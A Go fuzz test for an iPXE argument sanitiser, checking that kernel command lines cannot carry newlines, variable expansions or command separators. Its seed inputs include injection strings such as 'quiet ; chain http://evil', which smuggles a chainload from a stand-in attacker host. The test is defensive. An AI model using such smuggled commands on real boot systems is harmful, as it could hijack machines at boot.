package ipxe

import (
	"strings"
	"testing"
)

func FuzzArguments(f *testing.F) {
	f.Add("console=ttyS0 a=\"b c\"")
	f.Add("x\nboot")
	f.Add("${x}")
	f.Add("quiet ; chain http://evil")
	f.Add("quiet #x")
	f.Fuzz(func(t *testing.T, cmdline string) {
		args, err := Arguments(cmdline)
		if err == nil && (strings.ContainsAny(args, "\n\r\x00") || strings.Contains(args, "${") || strings.Contains(args+" ", " && ") || strings.Contains(args+" ", " ; ") || strings.Contains(args, " #")) {
			t.Errorf("%q became %q", cmdline, args)
		}
	})
}
